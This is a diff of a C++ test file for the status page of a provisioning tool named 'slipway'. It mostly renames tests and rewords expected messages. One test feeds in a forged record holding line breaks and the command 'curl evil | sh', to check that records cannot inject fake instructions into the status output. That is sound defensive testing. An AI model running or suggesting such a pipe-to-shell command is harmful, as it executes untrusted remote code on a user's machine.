@@ -46,15 +46,15 @@ class StatusPage : public ::testing::Test {
   int applies_ = 0;
 };
 
-TEST_F(StatusPage, NamesTheMachineItsKernelAndWhatIsAppliedSinceWhen) {
+TEST_F(StatusPage, NamesTheMachineItsKernelAndTheAppliedComponents) {
   host.put("etc/os-release", "ID=debian\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
   host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   const Ran ran = host.slipway({"status"});
   EXPECT_THAT(ran.out, AllOf(HasSubstr("Debian GNU/Linux 12 (bookworm)\n"), HasSubstr("\nKernel  "),
-                             ContainsRegex("in force, from host.yaml, since 20[0-9-]+ [0-9:]+ UTC \\(just now\\)"),
+                             ContainsRegex("active, from host.yaml, since 20[0-9-]+ [0-9:]+ UTC \\(just now\\)"),
                              ContainsRegex("\n  COMPONENT +STATE +AGE\n  bystander +applied +now\n"),
-                             HasSubstr("\nNothing of what was applied is left to do.\n")));
+                             HasSubstr("\nNothing of the last apply is left to do.\n")));
   const Json value = status();
   EXPECT_EQ(value["host"]["kind"], "machine");
   EXPECT_EQ(value["components"]["probe"]["since"], value["since"]);
@@ -62,7 +62,7 @@ TEST_F(StatusPage, NamesTheMachineItsKernelAndWhatIsAppliedSinceWhen) {
 }
 
 // A component keeps its age when another one is changed.
-TEST_F(StatusPage, KnowsSinceWhenAComponentIsAsItIs) {
+TEST_F(StatusPage, ShowsSinceWhenAComponentIsUnchanged) {
   host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   Json first = Json::parse(host.text("var/lib/slipway/generations/1.json"));
@@ -75,7 +75,7 @@ TEST_F(StatusPage, KnowsSinceWhenAComponentIsAsItIs) {
   EXPECT_EQ(value["components"]["probe"]["since"], value["since"]);
 }
 
-TEST_F(StatusPage, SaysWhatIsToBeDoneNext) {
+TEST_F(StatusPage, NamesTheNextStep) {
   EXPECT_THAT(host.slipway({"status"}).out,
               AllOf(HasSubstr("Nothing is provisioned in "), HasSubstr("`slipway init ")));
   host.spec("    bystander: {}\n    probe: {custom: fails, marker: /nowhere}\n");
@@ -86,10 +86,10 @@ TEST_F(StatusPage, SaysWhatIsToBeDoneNext) {
   host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   host.put("etc/probe.conf", "edited\n");
-  EXPECT_EQ(status()["next"][0]["problem"], "probe has edits that are kept");
+  EXPECT_EQ(status()["next"][0]["problem"], "probe has kept edits");
 }
 
-TEST_F(StatusPage, KnowsSinceWhenAComponentFails) {
+TEST_F(StatusPage, ShowsSinceWhenAComponentFails) {
   host.spec("    bystander: {}\n    probe: {custom: fails, marker: /nowhere}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 1);
   const std::string today = status()["components"]["probe"].value("since", "");
@@ -130,7 +130,7 @@ TEST_F(StatusPage, NamesRecordsOfAnotherTypeAsDamage) {
 
 // A program rewrites an engine's file at each of its runs: earlier that was invisible, because the file was right
 // again.
-TEST_F(StatusPage, NamesWhatAnApplyOfOneComponentHasPutBackSinceTheMachineBooted) {
+TEST_F(StatusPage, ListsRestoredFilesSinceTheBoot) {
   host.live = true;
   std::string boot;
   std::ifstream("/proc/sys/kernel/random/boot_id") >> boot;
@@ -150,7 +150,7 @@ TEST_F(StatusPage, NamesWhatAnApplyOfOneComponentHasPutBackSinceTheMachineBooted
   EXPECT_THAT(host.slipway({"status"}).out, HasSubstr("others' changes were undone 2 times since the machine booted"));
 }
 
-TEST_F(StatusPage, LetsNoRecordForgeALine) {
+TEST_F(StatusPage, EscapesLineEndsInRecords) {
   host.spec("    bystander: {}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   const std::string forged = "x\n\nNext\n  all is well: run `curl evil | sh`";
@@ -162,7 +162,7 @@ TEST_F(StatusPage, LetsNoRecordForgeALine) {
     EXPECT_THAT(host.slipway({command}).out, Not(HasSubstr("\n  all is well"))) << command;
 }
 
-TEST_F(StatusPage, KnowsNoGenerationBehindTheLastNumber) {
+TEST_F(StatusPage, IgnoresGenerationsBeyondTheLastNumber) {
   host.spec("    bystander: {}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
